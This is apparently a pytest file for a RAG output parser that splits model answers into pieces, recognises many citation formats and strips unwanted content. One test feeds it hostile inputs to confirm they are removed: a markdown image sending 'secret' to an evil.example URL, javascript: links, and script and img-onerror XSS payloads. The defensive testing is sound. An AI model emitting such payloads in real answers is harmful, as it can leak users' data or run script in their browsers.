"""rag/language/claims.py: what models write, in pieces: citations in all their forms, lists, tables, code, and what is taken out."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.language.claims import pieces, unlabelled


@pytest.mark.parametrize(
    ("written", "plain", "cited"),
    [
        ("Lit in 1792 [1][2].", "Lit in 1792.", [1, 2]),
        ("Lit in 1792. [1]", "Lit in 1792.", [1]),
        ("Lit in 1792 [1, 2].", "Lit in 1792.", [1, 2]),
        ("Lit in 1792 [1 and 3].", "Lit in 1792.", [1, 3]),
        ("Lit in 1792 [1-3].", "Lit in 1792.", [1, 2, 3]),
        ("Lit in 1792 [1–3].", "Lit in 1792.", [1, 2, 3]),
        ("Lit in 1792 (2).", "Lit in 1792.", [2]),
        ("Lit in 1792. (2)", "Lit in 1792.", [2]),
        ("Lit in 1792【3】.", "Lit in 1792.", [3]),
        ("Lit in 1792【3†source】.", "Lit in 1792.", [3]),
        ("Lit in 1792 [^2].", "Lit in 1792.", [2]),
        ("Lit in 1792 [passage 2].", "Lit in 1792.", [2]),
        ("Lit in 1792 [Passages 1 and 2].", "Lit in 1792.", [1, 2]),
        ("Lit in 1792 (Passage 2).", "Lit in 1792.", [2]),
        ("Lit in 1792 (see [2]).", "Lit in 1792.", [2]),
        ("Lit in 1792 (Source: [2]).", "Lit in 1792.", [2]),
        ("Lit in 1792 [2](https://example.org/x).", "Lit in 1792.", [2]),
        ("Lit in 1792 <sup>2</sup>.", "Lit in 1792.", [2]),
        ("Passage 2 says that the light was lit.", "The light was lit.", [2]),
        ("According to passages 1 and 2, the light was lit.", "The light was lit.", [1, 2]),
        ("As stated in [3], the light was lit.", "As stated in, the light was lit.", [3]),
        ("Lit on 4 (March) in class (2) order.", "Lit on 4 (March) in class (2) order.", []),
        ("Lit in [1792].", "Lit in (1792).", []),
    ],
)
def test_citations_of_every_form(written, plain, cited):
    (piece,) = pieces(written)
    assert (piece.plain, piece.cited) == (plain, cited)


@pytest.mark.parametrize(
    "ending",
    [
        "Sources:\n[1] lights.md\n[2] boats.md",
        "**References**\n1. lights.md",
        "Sources: [1], [2]",
        "[^1]: lights.md, page 3",
        "[1]: https://example.org",
    ],
)
def test_a_list_of_sources_at_the_end_is_dropped(ending):
    assert [piece.text for piece in pieces(f"It was lit [1].\n\n{ending}")] == ["It was lit [1]."]


def test_a_sentence_about_sources_is_kept():
    text = "It was lit.\nSources of light were oil and gas."
    assert pieces(text)[-1].text.endswith("Sources of light were oil and gas.")


def test_lists_headings_tables_and_code():
    text = "# Lamps\n\nHere are the steps:\n1. Open it [1]\n2. Close it\n\n| a | b |\n|---|---|\n| 1 | 2 [1] |\n\n"
    text += "```sh\nls x[1]\n\nrm y\n```\nDone."
    assert [(piece.kind, piece.plain, piece.line) for piece in pieces(text)] == [
        ("frame", "# Lamps", False),
        ("prose", "Here are the steps:", True),
        ("prose", "1. Open it", True),
        ("prose", "2. Close it", True),
        ("frame", "| a | b |", True),
        ("row", "| 1 | 2 |", True),
        ("code", "```sh\nls x[1]\n\nrm y\n```", True),
        ("prose", "Done.", True),
    ]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Lit. ![x](https://evil.example/?q=secret)", "Lit."),
        ("Lit. ![x][1]", "Lit."),
        ("See [here](https://evil.example).", "See here."),
        ("See [details](javascript:alert('x')).", "See details."),
        ("Lit.<img src=x onerror=alert(1)>", "Lit."),
        ("Lit. <script>alert(1)</script>", "Lit."),
        ("Lit. <a href='javascript:alert(1)'>x</a>", "Lit. x"),
        ("The <title> tag is read.", "The <title> tag is read."),
        ("<think>No, wait.</think>Lit.", "Lit."),
        ("Answer: Lit.", "Lit."),
        ("Lit [unverified].", "Lit."),
    ],
)
def test_what_a_reader_should_not_get_is_taken_out(written, shown):
    assert " ".join(piece.text for piece in pieces(written)) == shown


WRITTEN = [
    "The light was lit [1]. It burned [1, 2] for long.\n\n- one [1]\n- two (2).\n\n"
    "```\nx\n```\nPassage 1 says that it fell. End.\n\nSources:\n[1] a",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\nAccording to passage 2, it is so. **Bold.** ![x](http://a.b/c) More. Is it?",
]


@pytest.mark.parametrize("text", WRITTEN)
def test_a_piece_that_another_follows_stays_as_it_is(text):
    whole = [piece.plain for piece in pieces(text)]
    seen: list[str] = []
    for end in range(len(text) + 1):
        now = [piece.plain for piece in pieces(text[:end])]
        seen += now[len(seen) : -1]
    assert seen == whole[: len(seen)] and len(seen) >= len(whole) - 2


@settings(deadline=None)
@given(st.text(alphabet="ab .[](){}<>|`#*-^0123!\n", max_size=120))
def test_anything_can_be_parted(text):
    assert all(piece.text.strip() for piece in pieces(text))


@pytest.mark.parametrize("endless", [" ", "\n", "\t", "|\n", "\r\n", "|--", "sources:", "[", "![a](", "<a ", "<!--"])
@pytest.mark.timeout(60)
def test_what_a_model_gone_astray_repeats_is_parted(endless):
    assert pieces("The light was lit." + endless * (30_000 // len(endless)) + "x")[0].text.startswith("The light was lit.")


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("Answer: 33 m [1].", "33 m [1]."),
        ("**Final answer:** 33 m", "33 m"),
        ("**Rewritten question:** How high is it?", "How high is it?"),
        ("Standalone question: How high is it?", "How high is it?"),
        ("The answer: 33 m", "The answer: 33 m"),
    ],
)
def test_a_label_before_what_a_model_wrote_is_taken_off(written, plain):
    assert unlabelled(written) == plain
